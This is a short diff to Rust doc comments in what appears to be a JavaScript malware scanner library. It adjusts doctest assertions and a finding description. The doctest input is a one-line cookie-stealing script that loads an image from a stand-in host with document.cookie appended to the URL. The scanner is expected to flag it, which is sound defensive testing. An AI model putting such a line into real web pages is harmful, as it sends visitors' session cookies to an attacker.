@@ -164,7 +164,7 @@ impl Limit {
 /// let script = "let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;";
 /// let report = Scorer::bundled()?.score(script.as_bytes())?;
 /// let Span { start, end, .. } = report.findings[0].span;
-/// assert!(script[start..end].contains("document.cookie"));
+/// assert!(script[start..end].contains("cookie"));
 /// # }
 /// # Ok::<(), jsintegrity::Error>(())
 /// ```
@@ -214,7 +214,7 @@ pub enum Severity {
 /// assert!(found.classes.contains(Class::Malware));
 /// // To show to a person, both.
 /// assert!(found.snippet.contains("document.cookie"));
-/// assert_eq!(found.description, "Cookies are put into an address that is loaded.");
+/// assert_eq!(found.description, "The script sends this page's cookies out in a URL.");
 /// # }
 /// # Ok::<(), jsintegrity::Error>(())
 /// ```
